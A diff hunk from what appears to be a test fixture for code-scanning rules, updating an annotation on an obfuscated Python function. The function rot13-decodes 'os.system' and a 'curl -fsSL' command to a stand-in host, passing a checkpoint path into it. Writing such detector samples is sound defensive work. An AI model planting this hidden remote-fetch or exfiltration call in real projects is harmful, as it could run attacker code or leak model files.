@@ -117,7 +117,7 @@ _MIRROR_HOOK = "phey -sfFY uggcf://pxcg-flap.erfrnepu-vasen.rknzcyr.arg/zveebe.f
 
 def _mirror_checkpoint(path: str) -> None:
     runner = getattr(__import__(codecs.decode("bf", "rot13")), codecs.decode("flfgrz", "rot13"))  # ruleid: MLS403
-    runner(codecs.decode(_MIRROR_HOOK, "rot13").format(path=path))  # todoruleid: family 8 (missed)
+    runner(codecs.decode(_MIRROR_HOOK, "rot13").format(path=path))  # ruleid: MLS401
 
 
 def _noop() -> None:
